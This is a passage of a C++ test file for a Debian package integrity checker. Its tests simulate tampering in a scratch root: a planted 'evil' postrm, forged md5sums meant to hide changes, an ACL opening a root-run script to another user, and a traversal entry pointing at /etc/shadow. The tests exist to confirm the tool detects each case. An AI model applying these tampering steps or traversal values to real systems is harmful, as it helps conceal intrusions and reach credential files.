    void testPlantedPostrmIsReported() {
        // svc ships no postrm; dpkg would run one at removal all the same.
        ScriptedPackage sys;
        must_sh("printf '#!/bin/sh\\nevil\\n' > " + sys.q("/var/lib/dpkg/info/svc.postrm") +
                " && chmod 755 " + sys.q("/var/lib/dpkg/info/svc.postrm"));
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        assert_deviations({{"/var/lib/dpkg/info/svc.postrm", "modified type"}}, doc);
        const json& entry = file_entry(doc, "/var/lib/dpkg/info/svc.postrm");
        CPPUNIT_ASSERT_EQUAL(std::string("absent"), entry["expected"]["type"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("file"), entry["actual"]["type"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("not a control member of the package"),
                             entry["reason"].get<std::string>());
    }

    void testMemberWritableThroughAnAclIsMetadata() {
        // Another user may rewrite what runs as root at the next upgrade.
        if (!have_tool("setfacl")) {
            skip("setfacl (package acl) is not installed");
            return;
        }
        ScriptedPackage sys;
        const RunResult acl =
            sh("setfacl -m u:7001:rwx " + sys.q("/var/lib/dpkg/info/svc.postinst"));
        if (acl.status != 0) {
            skip("the file system has no POSIX ACLs: " + acl.err);
            return;
        }
        assert_deviations(
            {{"/var/lib/dpkg/info/svc.postinst", "metadata system.posix_acl_access"}},
            verify_json(sys.root, sys.ref, {}, 1));
    }

    void testDeletedAndForgedMd5sums() {
        // An intruder who edits md5sums hides a change from debsums and dpkg --verify; not here.
        ScriptedPackage sys;
        must_sh("printf 'x\\n' >> " + sys.q("/usr/bin/svc") + " && cd " + sys.q("/") +
                " && md5sum usr/bin/svc > var/lib/dpkg/info/svc.md5sums");
        assert_deviations({{"/usr/bin/svc", "modified size,sha256,mtime"},
                           {"/var/lib/dpkg/info/svc.md5sums", "modified sha256"}},
                          verify_json(sys.root, sys.ref, {}, 1));
        must_sh("rm " + sys.q("/var/lib/dpkg/info/svc.md5sums"));
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        CPPUNIT_ASSERT_EQUAL(std::string("missing"),
                             file_entry(doc, "/var/lib/dpkg/info/svc.md5sums")["status"]
                                 .get<std::string>());
    }


    void testMd5sumsWrittenByDpkg() {
        // Packages built without md5sums (a metapackage's has nothing to list, dh_md5sums then
        // writes none): dpkg writes one into its database at unpacking. Pristine when each line
        // is the MD5 of the package's very file; a lie about a file is not.
        if (!running_as_root() || !have_tool("dpkg")) {
            skip("installing with dpkg --root needs dpkg and root");
            return;
        }
        TempDir tmp;
        const std::string plain = build_package(
            tmp, "plain",
            "mkdir -p usr/bin usr/share/plain && printf 'plain\\n' > usr/bin/plain && "
            "chmod 755 usr/bin/plain && printf 'data\\n' > usr/share/plain/data && "
            "ln usr/share/plain/data usr/share/plain/same\n");
        const std::string meta = build_package(tmp, "meta", "mkdir -p usr/share/doc/meta\n");
        const std::string ref = make_reference(tmp, {plain, meta});
        SystemRoot root{tmp / "root"};
        must_sh("mkdir -p " + shell_quote(root / "/var/lib/dpkg/updates") + " && dpkg --root=" +
                shell_quote(root.dir()) + " --force-script-chrootless -i " + shell_quote(plain) +
                " " + shell_quote(meta) + " >/dev/null");
        const std::string sums = root / "/var/lib/dpkg/info/plain.md5sums";
        CPPUNIT_ASSERT_MESSAGE("dpkg wrote no md5sums", std::filesystem::exists(sums));
        CPPUNIT_ASSERT(std::filesystem::is_empty(root / "/var/lib/dpkg/info/meta.md5sums"));
        json doc = verify_json(root, ref, {"--all"}, 0);
        for (const char* member : {"plain.md5sums", "meta.md5sums"}) {
            const json& entry = file_entry(doc, std::string("/var/lib/dpkg/info/") + member);
            CPPUNIT_ASSERT_EQUAL(std::string("pristine"), entry["status"].get<std::string>());
        }

        // A file changed, and md5sums rewritten to hide it from debsums: the file is modified,
        // and the md5sums no longer proven.
        const std::string bin = shell_quote(root / "/usr/bin/plain");
        must_sh("cp -p " + bin + " " + bin + ".keep && printf 'PLAIN\\n' > " + bin +
                " && cd " + shell_quote(root / "/") +
                " && md5sum usr/bin/plain usr/share/plain/data usr/share/plain/same > " +
                shell_quote(sums));
        doc = verify_json(root, ref, {}, 1);
        assert_deviations({{"/usr/bin/plain", "modified sha256,mtime"},
                           {"/var/lib/dpkg/info/plain.md5sums", "unverifiable"}},
                          doc);
        CPPUNIT_ASSERT_EQUAL(
            std::string("an md5sums written by dpkg, not proven: /usr/bin/plain is not the "
                        "package's file"),
            file_entry(doc, "/var/lib/dpkg/info/plain.md5sums")["reason"].get<std::string>());

        // The file back as shipped, its line a lie (debsums would report the pristine file).
        must_sh("mv " + bin + ".keep " + bin + " && cd " + shell_quote(root / "/") +
                " && { echo 0123456789abcdef0123456789abcdef'  usr/bin/plain'; "
                "md5sum usr/share/plain/data usr/share/plain/same; } > " + shell_quote(sums));
        doc = verify_json(root, ref, {}, 1);
        assert_deviations({{"/var/lib/dpkg/info/plain.md5sums", "modified md5"}}, doc);
        CPPUNIT_ASSERT_EQUAL(
            std::string("0123456789abcdef0123456789abcdef"),
            file_entry(doc, "/var/lib/dpkg/info/plain.md5sums")["actual"]["md5"].get<std::string>());

        // Lines dpkg never writes: a path outside the package, a directory, a name twice; and
        // lines it does write left out (which would hide the file from debsums).
        const std::string all = "md5sum usr/bin/plain usr/share/plain/data usr/share/plain/same";
        for (const std::string& script :
             {all + " | sed 's#usr/share/plain/same#usr/bin/other#'",
              all + "; md5sum usr/share/plain/data | sed 's#usr/share/plain/data#usr/share/plain#'",
              all + "; md5sum usr/share/plain/data", std::string("md5sum usr/bin/plain"),
              std::string("true")}) {
            must_sh("cd " + shell_quote(root / "/") + " && { " + script + "; } > " +
                    shell_quote(sums));
            doc = verify_json(root, ref, {}, 1);
            assert_deviations({{"/var/lib/dpkg/info/plain.md5sums", "modified type"}}, doc);
            const std::string reason =
                file_entry(doc, "/var/lib/dpkg/info/plain.md5sums")["reason"].get<std::string>();
            CPPUNIT_ASSERT_MESSAGE(reason, reason.find("nor the md5sums dpkg writes") !=
                                               std::string::npos);
        }
    }
};

// ---------------------------------------------------------------------------------------------

// hello with reference data, and "legacy" without: its files are checked against the root's
// own md5sums and conffile digests.
struct UnreferencedPackage {
    TempDir tmp;
    std::string hello = build_hello(tmp);
    std::string legacy = build_package(
        tmp, "legacy",
        "mkdir -p usr/bin usr/share/legacy etc\n"
        "printf 'legacy\\n' > usr/bin/legacy && chmod 755 usr/bin/legacy\n"
        "printf 'data\\n' > usr/share/legacy/data\n"
        "printf 'setting=1\\n' > etc/legacy.conf\n"
        "echo /etc/legacy.conf > DEBIAN/conffiles\n"
        "md5sum usr/bin/legacy usr/share/legacy/data > DEBIAN/md5sums\n");
    std::string ref = make_reference(tmp, {hello});
    SystemRoot root{tmp / "root"};
    UnreferencedPackage() {
        root.install(hello);
        root.install(legacy);
    }
    std::string q(const std::string& path) const { return shell_quote(root / path); }
};

class VerifyMd5sumsTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(VerifyMd5sumsTest);
    CPPUNIT_TEST(testUntouchedFilesAreUnprovenNeverPristine);
    CPPUNIT_TEST(testChangedFilesAreFoundAsDpkgVerifyFindsThem);
    CPPUNIT_TEST(testMalformedMd5sumsIsUnverifiable);
    CPPUNIT_TEST(testMd5sumsSpellingsAndSparseGiants);
    CPPUNIT_TEST_SUITE_END();

public:
    void testUntouchedFilesAreUnprovenNeverPristine() {
        UnreferencedPackage sys;
        const json doc = verify_json(sys.root, sys.ref, {"--all"}, 1);
        assert_deviations({}, doc);
        for (const char* path : {"/usr/bin/legacy", "/usr/share/legacy/data", "/etc/legacy.conf"}) {
            const json& entry = file_entry(doc, path);
            CPPUNIT_ASSERT_EQUAL(std::string("unproven"), entry["status"].get<std::string>());
            CPPUNIT_ASSERT(entry["md5sums"].get<bool>());
        }
        CPPUNIT_ASSERT_EQUAL(std::size_t{3}, doc["summary"]["md5sums"]["unproven"].get<std::size_t>());
        CPPUNIT_ASSERT_EQUAL(std::size_t{0}, doc["summary"]["unproven"].get<std::size_t>());
        CPPUNIT_ASSERT_EQUAL(std::string("legacy"), doc["unreferenced"][0]["package"].get<std::string>());
        const RunResult pristine = verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                           "--trust-unsigned", "--list", "pristine"});
        CPPUNIT_ASSERT_EQUAL(1, pristine.status);
        CPPUNIT_ASSERT_MESSAGE(pristine.out, pristine.out.find("legacy") == std::string::npos);
        CPPUNIT_ASSERT(pristine.out.find("/usr/bin/hello\n") != std::string::npos);
    }

    void testChangedFilesAreFoundAsDpkgVerifyFindsThem() {
        UnreferencedPackage sys;
        must_sh("printf 'evil\\n' > " + sys.q("/usr/bin/legacy") + " && rm " +
                sys.q("/usr/share/legacy/data") + " && echo 'setting=2' > " +
                sys.q("/etc/legacy.conf"));
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        assert_deviations({{"/usr/bin/legacy", "modified md5"},
                           {"/usr/share/legacy/data", "missing"},
                           {"/etc/legacy.conf", "modified md5 conffile"}},
                          doc);
        const json& legacy = file_entry(doc, "/usr/bin/legacy");
        CPPUNIT_ASSERT(legacy["md5sums"].get<bool>());
        CPPUNIT_ASSERT_EQUAL(md5_of(sys.root / "/usr/bin/legacy"),
                             legacy["actual"]["md5"].get<std::string>());
        // Counted apart from what reference data proves.
        CPPUNIT_ASSERT_EQUAL(std::size_t{0}, doc["summary"]["modified"].get<std::size_t>());
        CPPUNIT_ASSERT_EQUAL(std::size_t{2}, doc["summary"]["md5sums"]["modified"].get<std::size_t>());
        CPPUNIT_ASSERT_EQUAL(std::size_t{1}, doc["summary"]["md5sums"]["missing"].get<std::size_t>());
        const RunResult text =
            verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned"});
        CPPUNIT_ASSERT_EQUAL(1, text.status);
        CPPUNIT_ASSERT_MESSAGE(text.out, text.out.find("modified     /usr/bin/legacy (legacy, md5sums "
                                                       "only): md5\n") != std::string::npos);
        CPPUNIT_ASSERT_MESSAGE(text.out,
                               text.out.find("Checked against the system's own md5sums only (no "
                                             "reference data): 3\n  unproven:     0\n"
                                             "  modified:     2\n  missing:      1\n") !=
                                   std::string::npos);
        // dpkg --verify's own lines for the same changes.
        const RunResult rpm = verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                      "--trust-unsigned", "--format", "rpm"});
        CPPUNIT_ASSERT_EQUAL(std::string("??5?????? c /etc/legacy.conf\n"
                                         "??5??????   /usr/bin/legacy\n"
                                         "missing     /usr/share/legacy/data\n"),
                             rpm.out);
    }

    void testMd5sumsSpellingsAndSparseGiants() {
        // Another spelling of a path is the same file, checked once; ".." is refused; a sparse
        // planted at a listed path is not read.
        UnreferencedPackage sys;
        const std::string sums = sys.q("/var/lib/dpkg/info/legacy.md5sums");
        must_sh("sed -e 's, usr/bin/legacy, ./usr//bin/./legacy,' " + sums + " >> " + sums +
                " && truncate -s 8G " + sys.q("/usr/share/legacy/data"));
        const json doc = verify_json(sys.root, sys.ref, {"--all"}, 1);
        assert_deviations({{"/usr/share/legacy/data", "unverifiable"}}, doc);
        CPPUNIT_ASSERT_EQUAL(std::string("mostly holes (sparse): not read without reference data"),
                             file_entry(doc, "/usr/share/legacy/data")["reason"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::size_t{3}, doc["summary"]["md5sums"]["checked"].get<std::size_t>());
        must_sh("echo '0123456789abcdef0123456789abcdef  usr/../../etc/shadow' >> " + sums);
        CPPUNIT_ASSERT_EQUAL(
            std::string("line 5: not a path relative to the root"),
            file_entry(verify_json(sys.root, sys.ref, {}, 1), "/var/lib/dpkg/info/legacy.md5sums")
                ["reason"].get<std::string>());
    }

    void testMalformedMd5sumsIsUnverifiable() {
        UnreferencedPackage sys;
        must_sh("echo 'not a digest' >> " + sys.q("/var/lib/dpkg/info/legacy.md5sums"));
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        assert_deviations({{"/var/lib/dpkg/info/legacy.md5sums", "unverifiable"}}, doc);
        CPPUNIT_ASSERT_EQUAL(std::string("line 3: not \"MD5  PATH\""),
                             file_entry(doc, "/var/lib/dpkg/info/legacy.md5sums")["reason"]
                                 .get<std::string>());
    }
};

} // namespace

CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyControlTest, "e2e.verify.control");
CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyMd5sumsTest, "e2e.verify.md5sums");
CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyHostileDatabaseTest, "e2e.verify.hostile_database");
CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyHostileOwnershipTest, "e2e.verify.hostile_ownership");
